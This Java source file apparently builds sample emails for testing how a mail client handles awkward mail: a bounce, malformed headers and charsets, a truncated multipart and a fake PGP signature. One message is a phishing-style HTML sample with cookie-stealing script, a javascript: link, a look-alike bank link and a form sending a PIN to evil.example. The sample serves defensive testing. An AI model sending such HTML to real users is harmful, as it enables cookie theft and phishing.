package postern.demo;

import static java.nio.charset.StandardCharsets.UTF_8;
import static postern.demo.LetterFactory.READ;
import static postern.demo.LetterFactory.UNREAD;
import static postern.samplemail.TransferEncoding.EIGHT_BIT;
import static postern.samplemail.TransferEncoding.SEVEN_BIT;

import java.util.List;
import postern.samplemail.Entity;
import postern.samplemail.Person;
import postern.samplemail.SampleFile;

/** Mail that is hard on a client: a bounce, malicious HTML, malformed headers and parts. */
record AwkwardLetters(LetterFactory desk) {
    List<DemoMessage> all() {
        return List.of(bounce(), trap(), rawSubject(), wrongCharset(), halfAMessage(), signed());
    }

    private DemoMessage bounce() {
        var explanation =
                """
                Your message could not be delivered:

                  nobody@example.com: 550 5.1.1 no such user
                """;
        var status =
                """
                Reporting-MTA: dns; mx.example.org

                Final-Recipient: rfc822; nobody@example.com
                Action: failed
                Status: 5.1.1
                Diagnostic-Code: smtp; 550 5.1.1 no such user
                """;
        var returned = "From: Alex Demo <demo@example.org>\nSubject: Lunch?\n";
        return desk.received(
                "bounce",
                "PT30M",
                UNREAD,
                new Person("Mail Delivery System", "mailer-daemon@example.org"),
                letter ->
                        letter.subject("Undelivered Mail Returned to Sender")
                                .field("Auto-Submitted", "auto-replied")
                                .with(
                                        Entity.multipart(
                                                "report; report-type=delivery-status",
                                                Entity.text(explanation),
                                                Entity.text(
                                                        "message/delivery-status",
                                                        status,
                                                        UTF_8,
                                                        SEVEN_BIT),
                                                Entity.text(
                                                        "text/rfc822-headers",
                                                        returned,
                                                        UTF_8,
                                                        SEVEN_BIT))));
    }

    private DemoMessage trap() {
        var html =
                """
                <html><body onload="steal()"><script>steal(document.cookie)</script>
                <p style="position: fixed; top: 0">Your account is locked.
                <a href="javascript:steal()">Unlock</a> or
                <a href="https://bank.example.evil.example">https://bank.example</a></p>
                <img src="x" onerror="steal()"><form action="https://evil.example"><input name="pin"></form>
                <iframe src="https://evil.example"></iframe></body></html>
                """;
        return desk.received(
                "trap",
                "PT1H5M",
                UNREAD,
                new Person("Your bank", "security@evil.example"),
                letter -> letter.subject("Your account is locked").with(Entity.html(html)));
    }

    private DemoMessage rawSubject() {
        return desk.received(
                "raw-subject",
                "P1DT3H",
                READ,
                new Person("Sofia", "sofia@example.com"),
                letter ->
                        letter.field("Subject", "Mañana, señor – naïvely unencoded")
                                .with(
                                        Entity.text(
                                                "text/plain",
                                                "¡Hasta mañana!\n",
                                                UTF_8,
                                                EIGHT_BIT)));
    }

    private DemoMessage wrongCharset() {
        var body = Entity.lines("It says us-ascii, and it is not: Žluťoučký kůň, 5 €.\n");
        return desk.received(
                "wrong-charset",
                "P1DT5H",
                READ,
                new Person("Legacy Printer", "printer@example.org"),
                letter ->
                        letter.subject("Scan finished")
                                .with(
                                        Entity.of(
                                                List.of(
                                                        "Content-Type: text/plain; charset=us-ascii"),
                                                body.getBytes(UTF_8),
                                                EIGHT_BIT)));
    }

    private DemoMessage halfAMessage() {
        var log = Entity.attachment(SampleFile.text("build.log", "[INFO] BUILD SUCCESS\n"));
        return desk.received(
                "half",
                "P1DT8H",
                READ,
                new Person("Build server", "ci@example.org"),
                letter ->
                        letter.subject("Build 1841 (this message was cut off)")
                                .with(
                                        Entity.unclosedMultipart(
                                                "mixed",
                                                List.of(Entity.text("See the log.\n"), log))));
    }

    private DemoMessage signed() {
        var signature =
                """
                -----BEGIN PGP SIGNATURE-----

                iHUEARYKAB0WIQTthisIsNoRealSignatureAtAllAndNobodyShouldTrustIt
                =dEm0
                -----END PGP SIGNATURE-----
                """;
        return desk.received(
                "signed",
                "P1DT10H",
                READ,
                new Person("Linus Marsh", "linus@example.net"),
                letter ->
                        letter.subject("New key")
                                .with(
                                        Entity.multipart(
                                                "signed; micalg=pgp-sha512;\r\n protocol=\"application/pgp-signature\"",
                                                Entity.text("My new key is on the usual server.\n"),
                                                Entity.of(
                                                        List.of(
                                                                "Content-Type: application/pgp-signature; name=\"signature.asc\""),
                                                        Entity.lines(signature).getBytes(UTF_8),
                                                        SEVEN_BIT))));
    }
}
